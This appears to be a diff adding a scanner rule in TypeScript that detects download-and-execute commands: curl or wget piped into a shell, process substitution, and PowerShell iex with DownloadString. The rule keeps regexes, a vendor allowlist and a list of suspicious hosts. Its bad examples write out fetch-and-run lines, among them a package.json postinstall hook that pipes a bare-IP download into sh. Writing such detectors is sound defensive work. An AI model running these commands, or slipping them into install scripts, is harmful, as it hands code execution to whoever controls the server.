@@ -1,0 +1,65 @@
+import type { FileCheck } from '../../check.ts';
+
+const PIPED =
+  /\b(?:curl|wget)\b[^\n|]{0,300}?(https?:\/\/[^\s"'`|)\\]{3,200})[^\n|]{0,120}\|\s{0,4}(?:sudo\s{1,3}(?:-E\s{1,3})?)?(?:env\s[^\n|]{0,60}\s)?(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|a)?sh\b/g;
+const SUBSTITUTED =
+  /\b(?:(?:ba|z|da)?sh|eval|source)\s{1,3}(?:-c\s{1,3})?["']?(?:<\(|\$\(|`)\s{0,3}(?:curl|wget)\b[^\n)`]{0,200}?(https?:\/\/[^\s"'`|)\\]{3,200})/g;
+const POWERSHELL =
+  /\b(?:iex|invoke-expression)\b[^\n]{0,80}(?:downloadstring|invoke-webrequest|\biwr\b|\birm\b|invoke-restmethod)[^\n]{0,80}?(https?:\/\/[^\s"'`|)]{3,200})|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|]{0,120}?(https?:\/\/[^\s"'`|)]{3,200})[^\n|]{0,80}\|\s{0,4}(?:iex|invoke-expression)\b/gi;
+const FORMS: readonly RegExp[] = [PIPED, SUBSTITUTED, POWERSHELL];
+
+/** Installers that their vendors tell everybody to run in this way, over HTTPS. */
+const VENDORS =
+  /^https:\/\/(?:sh\.rustup\.rs|get\.docker\.com|(?:deb|rpm)\.nodesource\.com|install\.python-poetry\.org|astral\.sh|bun\.sh|deno\.land|get\.pnpm\.io|bootstrap\.pypa\.io|get\.helm\.sh|starship\.rs|get\.k3s\.io|ollama\.com|fly\.io|tailscale\.com|sdk\.cloud\.google\.com|pyenv\.run|get\.sdkman\.io|get\.volta\.sh|fnm\.vercel\.app|claude\.ai|cursor\.com|raw\.githubusercontent\.com\/(?:nvm-sh|Homebrew|helm|golangci|anchore|aquasecurity|pyenv|ohmyzsh)\/)/i;
+/** Nobody who means well serves installers from a bare address, a paste or a tunnel, or without encryption. */
+const SHADY =
+  /^http:\/\/(?!localhost|127\.)|^https?:\/\/(?:\d{1,3}\.){3}\d{1,3}|pastebin\.com|paste\.ee|transfer\.sh|ngrok|trycloudflare|\.(?:tk|top|xyz)(?:[/:]|$)/i;
+
+export const check: FileCheck = {
+  id: 'rce-download-and-execute',
+  title: 'Downloads a program and runs it unseen',
+  severity: 'high',
+  kind: 'malice',
+  confidence: 'medium',
+  since: '0.1.0',
+  cwe: [494],
+  why: `
+    What a server answers is run at once, with no version, no checksum and no look at it. Whoever controls the server, or
+    the way to it, runs code on this machine, today or after everybody has looked.`,
+  fix: 'Install from a package registry, or download a fixed version, compare its checksum, and only then run it.',
+  blindSpots: 'A download that is saved, changed and started in separate steps is not recognised here.',
+  wants: { keywords: ['curl', 'wget', 'downloadstring', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '] },
+  examples: {
+    bad: [
+      { 'install.sh': 'set -e\n«curl -fsSL https://get.example.net/setup.sh | sudo bash» -s -- --yes\n' },
+      { 'package.json': '{"scripts": {"postinstall": "«wget -qO- http://203.0.113.5/x | sh»"}}' },
+      { 'setup.ps1': "«iex ((New-Object Net.WebClient).DownloadString('https://get.example.net/a.ps1»'))\n" },
+      { 'boot.sh': 'bash -c "$(true)"\n«bash <(curl -s https://get.example.net/run»)\n' },
+    ],
+    good: [
+      { 'install.sh': "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n" },
+      { 'fetch.sh': 'curl -fsSLo tool.tar.gz https://get.example.net/tool.tar.gz\nsha256sum -c tool.sha256\n' },
+      { 'query.sh': 'curl -s https://api.example.net/items | jq .name\n' },
+    ],
+  },
+
+  *find({ windows }) {
+    for (const window of windows) {
+      for (const form of FORMS) {
+        for (const match of window.text.matchAll(form)) {
+          const address = match[1] ?? match[2] ?? '';
+          if (VENDORS.test(address)) continue;
+          yield {
+            at: window.span(match.index, match.index + match[0].length),
+            message: `What ${hostOf(address)} answers is run without being looked at.`,
+            confidence: SHADY.test(address) ? 'high' : 'medium',
+          };
+        }
+      }
+    }
+  },
+};
+
+function hostOf(address: string): string {
+  return URL.canParse(address) ? new URL(address).host : 'a server';
+}
